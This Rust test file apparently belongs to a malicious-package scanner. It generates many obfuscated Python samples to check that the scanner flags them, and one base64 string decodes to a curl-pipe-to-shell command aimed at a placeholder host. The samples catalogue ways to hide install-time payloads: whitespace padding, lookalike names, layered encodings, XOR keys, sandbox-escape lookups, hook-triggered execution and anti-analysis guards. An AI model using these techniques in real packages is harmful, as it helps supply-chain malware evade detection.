//! Evasions in how the code is written.

use fondaco_verdict::Trigger::{Call, Import, Install};
use fondaco_verdict::Verdict::{Clean, Malicious, Suspicious};

use crate::{COMMAND, evasion, hold, module, plain, setup};

/// `exec` of base64 with a command in it.
const DECODED: &str = "exec(__import__('base64').b64decode('X19pbXBvcnRfXygnb3MnKS5zeXN0ZW0oJ2N1cmwgLXMgaHR0cDovL3guZXhhbXBsZS5pbnZhbGlkL2EgfCBzaCcp'))";

#[test]
fn hidden_from_the_eye() {
    let spaces = " ".repeat(1500);
    let comment = "\u{97fb}\u{8a00}";
    hold(&[
        evasion("far to the right", module(&format!("import os;{spaces}{}\n", plain())).build(), (Suspicious, "command-download"), Import),
        evasion("far to the right, decoded", module(&format!("import os;{spaces}{DECODED}\n")).build(), (Malicious, "padded-code"), Import),
        evasion("after blank lines", module(&format!("x = 1\n{}{}\n", "\n".repeat(9000), plain())).build(), (Suspicious, "command-download"), Import),
        evasion("CJK names", module(&format!("{comment}=getattr\n\u{6211}=__import__('o'+'s')\n{comment}(\u{6211},'sys'+'tem')('{COMMAND}')\n")).build(), (Malicious, "command-download"), Import),
        evasion("names of l, 1 and I", module(&format!("lIl1I=__import__\nlI1lI=lIl1I('os')\nlI1lI.system('{COMMAND}')\n")).build(), (Suspicious, "command-download"), Import),
        evasion("full-width letters", module(&format!("import os\n\u{ff4f}\u{ff53}.\u{ff53}ystem('{COMMAND}')\n")).build(), (Suspicious, "command-download"), Import),
        evasion("a form feed and a byte order mark", module(&format!("\u{feff}\x0cimport os\n\x0cos.system('{COMMAND}')\n")).build(), (Suspicious, "command-download"), Import),
    ]);
}

#[test]
fn put_together_from_pieces() {
    let codes: Vec<String> =
        plain().bytes().map(|b| format!("chr({}-{})", u32::from(b) + 1000, 1000)).collect();
    let sum = format!("exec({})\n", codes.join("+"));
    let letters = "a=(3<<0)+8\nexec(''.join(map(getattr(__builtins__, oct.__str__()[-3<<0]+hash.__str__()[-1<<1]+copyright.__str__()[4<<0]), [";
    let ords: Vec<String> = plain().bytes().map(|b| b.to_string()).collect();
    let number = big_integer(plain().as_bytes());
    hold(&[
        evasion("sums of integers", module(&sum).build(), (Malicious, "decoded-exec"), Import),
        evasion("letters of built-in functions", module(&format!("{letters}{}])))\n", ords.join(","))).build(), (Malicious, "command-download"), Import),
        evasion("lambda and __import__", module(&format!("(lambda m, f: getattr(__import__(m), f))('o'+'s', 'metsys'[::-1])('{COMMAND}')\n")).build(), (Malicious, "command-download"), Import),
        evasion("one long integer", module(&format!("n = {number}\nexec(n.to_bytes((n.bit_length() + 7) // 8, 'big'))\n")).build(), (Malicious, "decoded-exec"), Import),
        evasion("one long hexadecimal integer", module(&format!("exec(bytes.fromhex(hex(0x{})[2:]))\n", hex(plain().as_bytes()))).build(), (Malicious, "decoded-exec"), Import),
        evasion("division of a long integer", module(&format!("n = {number}\nout = []\nwhile n:\n    n, rest = divmod(n, 256)\n    out.append(rest)\nexec(bytes(out[::-1]))\n")).build(), (Malicious, "decoded-exec"), Import),
        evasion("builtins by subscript", module(&format!("globals()['__builtins__']['ex'+'ec'](\"{}\")\n", plain())).build(), (Suspicious, "command-download"), Import),
    ]);
}

#[test]
fn where_expressions_are_seldom() {
    let command = format!("os.system('{COMMAND}')");
    let told = (Suspicious, "command-download");
    hold(&[
        evasion("the default of a parameter", module(&format!("import os\ndef f(x={command}):\n    return x\n")).build(), told, Import),
        evasion("the default of a lambda", module(&format!("import os\nf = lambda x={command}: x\n")).build(), told, Import),
        evasion("the values of a table", module(&format!("import os\nt = {{n: {command} for n in os.listdir('.') if n}}\n")).build(), told, Import),
        evasion("the message of an assertion", module(&format!("import os\nassert not os, {command}\n")).build(), told, Import),
        evasion("the cause of an error", module(&format!("import os\ntry:\n    raise OSError from {command}\nexcept OSError:\n    pass\n")).build(), told, Import),
        evasion("a list that is filled later", module(&format!("import os\nq = []\ndef run():\n    for n in q:\n        {command}\nq.append(1)\nrun()\n")).build(), told, Import),
        evasion("an attribute by a condition", module(&format!("import os, sys\ngetattr(os if sys.argv else sys, 'system' if os.name else 'exit')('{COMMAND}')\n")).build(), (Malicious, "command-download"), Import),
    ]);
}

#[test]
fn calls_for_show() {
    // Whoever is called often for nothing is still followed when it counts.
    let show: String = (0..40).map(|n| format!("step('q{n}')\n")).collect();
    let coded: String = COMMAND.chars().map(|c| char::from(c as u8 ^ 1)).collect();
    let decoder = format!(
        "import os, random\ndef step(text):\n    if text.startswith('q'):\n        return random.random() * 2\n    \
         return ''.join(chr(ord(c) ^ 1) for c in text)\n{show}os.system(step({coded:?}))\n"
    );
    let branch = format!(
        "import os, random\ndef step(text):\n    if text.startswith('q'):\n        return random.random() * 2\n    \
         os.system(text)\n{show}step('{COMMAND}')\n"
    );
    let within = format!(
        "import os\ndef step(text):\n    if len(text) > 90:\n        return step(text[1:])\n    \
         return ''.join(chr(ord(c) ^ 1) for c in text)\n{}os.system(step({coded:?}))\n",
        (0..40).map(|n| format!("step('{n}' * 100)\n")).collect::<String>()
    );
    hold(&[
        evasion(
            "a decoder that is called for nothing",
            module(&decoder).build(),
            (Suspicious, "command-download"),
            Import,
        ),
        evasion(
            "a branch that is seldom taken",
            module(&branch).build(),
            (Suspicious, "command-download"),
            Import,
        ),
        evasion(
            "a function within itself",
            module(&within).build(),
            (Suspicious, "command-download"),
            Import,
        ),
    ]);
}

#[test]
fn looked_up_by_walking() {
    let walk = format!(
        "for c in ().__class__.__base__.__subclasses__():\n    if c.__name__ == 'catch_warnings':\n        \
         c()._module.__builtins__['__import__']('os').system('{COMMAND}')\n"
    );
    let wrap = format!(
        "[c for c in ''.__class__.__mro__[1].__subclasses__() if c.__name__ == '_wrap_close'][0]\
         .__init__.__globals__['system']('{COMMAND}')\n"
    );
    let popen = format!("(1).__class__.__base__.__subclasses__()[396]('{COMMAND}', shell=True)\n");
    let modules = format!("import sys\nsys.modules['o'+'s'].__dict__['sys'+'tem']('{COMMAND}')\n");
    hold(&[
        evasion(
            "subclasses, then __builtins__",
            module(&walk).build(),
            (Malicious, "command-download"),
            Import,
        ),
        evasion("subclasses, then globals", module(&wrap).build(), (Malicious, "command-download"), Import),
        evasion("subclasses by number", module(&popen).build(), (Malicious, "hidden-callee"), Import),
        evasion("the table of modules", module(&modules).build(), (Malicious, "command-download"), Import),
    ]);
}

#[test]
fn run_by_something_else() {
    let body = format!("import os\ndef go(*a, **k):\n    os.system('{COMMAND}')\n");
    let class = format!(
        "import os\nclass M(type):\n    def __new__(m, n, b, d):\n        os.system('{COMMAND}')\n        return type.__new__(m, n, b, d)\nclass A(metaclass=M):\n    pass\n"
    );
    let subclass = format!(
        "import os\nclass A:\n    def __init_subclass__(cls):\n        os.system('{COMMAND}')\nclass B(A):\n    pass\n"
    );
    let finder = format!(
        "import os, sys\nclass F:\n    @classmethod\n    def find_spec(cls, name, path=None, target=None):\n        os.system('{COMMAND}')\nsys.meta_path.insert(0, F)\n"
    );
    let finder_object = format!(
        "import os, sys\nclass F:\n    def find_spec(self, name, path=None, target=None):\n        os.system('{COMMAND}')\nsys.meta_path.append(F())\n"
    );
    let excepthook = format!("{body}import sys\nsys.excepthook = go\n");
    let setting = format!("{body}import signal\nsignal.signal(14, go)\n");
    let profile = format!("{body}import sys\nsys.settrace(go)\n");
    let made = format!("{body}type('A', (), {{'__init__': go}})()\n");
    let descriptor = format!(
        "import os\nclass D:\n    def __set_name__(self, owner, name):\n        os.system('{COMMAND}')\nclass A:\n    d = D()\n"
    );
    let expected =
        |name, code: &str| evasion(name, module(code).build(), (Suspicious, "command-download"), Import);
    hold(&[
        expected("a decorator that calls", &format!("{body}@go\ndef f():\n    pass\n")),
        expected("a metaclass", &class),
        expected("__init_subclass__", &subclass),
        expected("__set_name__", &descriptor),
        expected("a finder, by class", &finder),
        expected("a finder, by object", &finder_object),
        expected("type with a method", &made),
        expected("atexit", &format!("{body}import atexit\natexit.register(go)\n")),
        expected(
            "atexit as a decorator",
            &format!("import os, atexit\n@atexit.register\ndef go():\n    os.system('{COMMAND}')\n"),
        ),
        expected(
            "a thread",
            &format!("{body}import threading\nthreading.Thread(target=go, daemon=True).start()\n"),
        ),
        expected(
            "a thread's class",
            &format!(
                "import os, threading\nclass T(threading.Thread):\n    def run(self):\n        os.system('{COMMAND}')\nT().start()\n"
            ),
        ),
        expected("a timer", &format!("{body}import threading\nthreading.Timer(3, go).start()\n")),
        expected("the hook of exceptions", &excepthook),
        expected("a signal", &setting),
        expected("the hook of a tracer", &profile),
        expected(
            "a lazy attribute of the module",
            &format!("import os\ndef __getattr__(name):\n    os.system('{COMMAND}')\n"),
        ),
        evasion("only when it is called", module(&body).build(), (Clean, "command-download"), Call),
    ]);
}

#[test]
fn only_under_conditions() {
    let run = format!("__import__('os').system('{COMMAND}')");
    let guarded = |name, head: &str| {
        evasion(
            name,
            module(&format!("{head}\n    {run}\n")).build(),
            (Suspicious, "command-download"),
            Import,
        )
    };
    hold(&[
        guarded("a platform", "import sys\nif sys.platform == 'win32':"),
        guarded("a date", "import time\nif time.time() > 1893456000:"),
        guarded("never, at a glance", "if 1 - 1 == 2:"),
        guarded("an environment", "import os\nif not os.environ.get('CI') and 'GITHUB_ACTIONS' not in os.environ:"),
        guarded("a place", "import locale\nif locale.getdefaultlocale()[0] != 'ru_RU':"),
        guarded("a debugger", "import sys\nif sys.gettrace() is None:"),
        guarded("a long sleep", "import time\nfor _ in range(3):\n    time.sleep(600)\nelse:"),
        guarded("a failed import", "try:\n    import zz_missing\nexcept ImportError:"),
        evasion("a command's name", setup(&format!("import sys\nif 'install' in sys.argv or 'bdist_wheel' in sys.argv:\n    {run}\nsetup()\n")).build(), (Suspicious, "command-download"), Install),
        evasion("an early exit that isn't", module(&format!("def f():\n    return\n    yield\nfor _ in f():\n    pass\ntry:\n    raise SystemError\nexcept SystemError:\n    {run}\n")).build(), (Suspicious, "command-download"), Import),
    ]);
}

#[test]
fn decoded_by_odd_codecs() {
    let exec = |code: String| module(&code).build();
    let zlib = zlib_base64(plain().as_bytes());
    let escaped: String = plain().bytes().map(|b| format!("\\\\x{b:02x}")).collect();
    let utf7: String = plain().replace("os", "+AG8AcwA-");
    let all = |name, code: String| evasion(name, exec(code), (Malicious, "decoded-exec"), Import);
    hold(&[
        all(
            "zlib_codec",
            format!("import base64, codecs\nexec(codecs.decode(base64.b64decode('{zlib}'), 'zlib_codec'))\n"),
        ),
        all(
            "zip by encoding=",
            format!(
                "import base64, codecs\nexec(codecs.decode(base64.b64decode('{zlib}'), encoding='zip'))\n"
            ),
        ),
        all(
            "getdecoder",
            format!(
                "import base64, codecs\nexec(codecs.getdecoder('zlib')(base64.b64decode('{zlib}'))[0])\n"
            ),
        ),
        all(
            "codecs.lookup",
            format!(
                "import base64, codecs\nexec(codecs.lookup('zip').decode(base64.b64decode('{zlib}'))[0])\n"
            ),
        ),
        all(
            "hex_codec of a text's codec",
            format!(
                "import codecs\nexec(codecs.getdecoder('hex_codec')('{}')[0])\n",
                hex(plain().as_bytes())
            ),
        ),
        all("unicode_escape", format!("exec('{escaped}'.encode().decode('unicode_escape'))\n")),
        all("utf-7", format!("exec(b\"{utf7}\".decode('utf-7'))\n")),
        all(
            "uu and quoted-printable",
            format!(
                "import quopri\nexec(quopri.decodestring(b\"{}\"))\n",
                plain().bytes().map(|b| format!("={b:02X}")).collect::<String>()
            ),
        ),
        all(
            "html entities",
            format!(
                "import html\nexec(html.unescape('{}'))\n",
                plain().bytes().map(|b| format!("&#{b};")).collect::<String>()
            ),
        ),
        all(
            "decompressobj",
            format!(
                "import base64, zlib\nd = zlib.decompressobj()\nexec(d.decompress(base64.b64decode('{zlib}')))\n"
            ),
        ),
        all(
            "gzip in memory",
            format!(
                "import base64, gzip, io\nexec(gzip.GzipFile(fileobj=io.BytesIO(base64.b64decode('{}'))).read())\n",
                gzip_base64(plain().as_bytes())
            ),
        ),
    ]);
}

#[test]
fn keys_that_are_derived() {
    let key = "import hashlib, base64\nkey = hashlib.sha256(b'seed').digest()\n";
    // With the digest of `seed`, as Python gives it.
    let digest = python("import hashlib,sys; sys.stdout.buffer.write(hashlib.sha256(b'seed').digest())");
    let mixed: Vec<u8> = plain().bytes().zip(digest.iter().cycle()).map(|(a, b)| a ^ b).collect();
    let derived = python(
        "import hashlib,sys; sys.stdout.buffer.write(hashlib.pbkdf2_hmac('sha256', b'p', b's', 1000))",
    );
    let again: Vec<u8> = plain().bytes().zip(derived.iter().cycle()).map(|(a, b)| a ^ b).collect();
    hold(&[
        evasion(
            "a digest",
            module(&format!("{key}exec(bytes(a ^ key[i % len(key)] for i, a in enumerate(bytes.fromhex('{}'))))\n", hex(&mixed))).build(),
            (Malicious, "decoded-exec"),
            Import,
        ),
        evasion(
            "PBKDF2",
            module(&format!("import hashlib\nkey = hashlib.pbkdf2_hmac('sha256', b'p', b's', 1000)\nexec(bytes(a ^ key[i % len(key)] for i, a in enumerate(bytes.fromhex('{}'))))\n", hex(&again))).build(),
            (Malicious, "command-download"),
            Import,
        ),
    ]);
}

pub(crate) fn python(program: &str) -> Vec<u8> {
    let output = std::process::Command::new("python3").args(["-c", program]).output().unwrap();
    assert!(output.status.success(), "{output:?}");
    output.stdout
}

fn hex(bytes: &[u8]) -> String {
    bytes.iter().map(|byte| format!("{byte:02x}")).collect()
}

fn zlib_base64(bytes: &[u8]) -> String {
    let text = hex(bytes);
    let out = python(&format!(
        "import base64,zlib; print(base64.b64encode(zlib.compress(bytes.fromhex('{text}'))).decode(), end='')"
    ));
    String::from_utf8(out).unwrap()
}

fn gzip_base64(bytes: &[u8]) -> String {
    let text = hex(bytes);
    let out = python(&format!(
        "import base64,gzip; print(base64.b64encode(gzip.compress(bytes.fromhex('{text}'))).decode(), end='')"
    ));
    String::from_utf8(out).unwrap()
}

fn big_integer(bytes: &[u8]) -> String {
    let text = hex(bytes);
    String::from_utf8(python(&format!("print(int('{text}', 16), end='')"))).unwrap()
}
